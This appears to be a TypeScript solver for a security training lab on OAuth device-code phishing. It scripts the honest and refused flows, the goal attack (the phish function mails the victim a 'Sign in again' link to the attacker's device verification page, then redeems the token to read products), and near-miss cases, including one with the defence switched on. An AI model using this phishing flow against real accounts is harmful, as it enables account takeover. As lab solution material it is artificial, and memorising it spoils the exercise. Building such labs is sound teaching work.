import type { Participant } from '../../solver.ts';
import { labSolver } from '../attack-and-defend.ts';
import { readProducts } from '../lab-shop.ts';

const client_id = 'lab-television';
const grant_type = 'urn:ietf:params:oauth:grant-type:device_code';

/** Starts like a television, decides as Alice or Mallory, and asks for the tokens. */
async function decide(by: Participant, sub: string, button: string): Promise<void> {
  const { body } = await by.call('/oauth2/device_authorization', { form: { client_id, scope: 'openid' } });
  const { device_code = '', verification_uri_complete = '' } = body;
  const page = await by.open(verification_uri_complete);
  await by.submit(page.html.includes(button) ? page : await by.submit(page, `login-user-${sub}`), button);
  await by.call('/oauth2/token', { form: { grant_type, client_id, device_code } });
}

async function start(by: Participant): Promise<Readonly<Record<string, string>>> {
  return (await by.call('/oauth2/device_authorization', { form: { client_id, scope: 'openid products:read' } })).body;
}

/** Asks for the tokens, and reads the products with them. */
async function live(by: Participant, device_code: string): Promise<void> {
  const { access_token = '' } = (await by.call('/oauth2/token', { form: { grant_type, client_id, device_code } })).body;
  await readProducts(by, access_token);
}

async function phish(by: Participant): Promise<void> {
  const { device_code = '', verification_uri_complete = '' } = await start(by);
  await by.attack('victim', `<a href="${verification_uri_complete}">Sign in again</a>`);
  await live(by, device_code);
}

export const solver = labSolver({
  first: 'start',
  // Mallory allows his own request: no account of somebody else is lost
  honest: by => decide(by, 'mallory', 'device-allow'),
  refused: by => decide(by, 'alice', 'device-deny'),
  goal: {
    solve: phish,
    nearMisses: {
      'Alice allows in a browser of the learner': {
        also: ['attack'],
        async does(by) {
          const { device_code = '', verification_uri_complete = '' } = await start(by);
          const page = await by.submit(await by.open(verification_uri_complete), 'login-user-alice');
          await by.submit(page, 'device-allow');
          await live(by, device_code);
        },
      },
      'the mail has no code': {
        async does(by) {
          const { device_code = '' } = await start(by);
          await by.attack('victim');
          await live(by, device_code);
        },
      },
      'the defence is on': {
        also: ['again'],
        async does(by) {
          await by.defend(true);
          await phish(by);
        },
      },
    },
  },
});
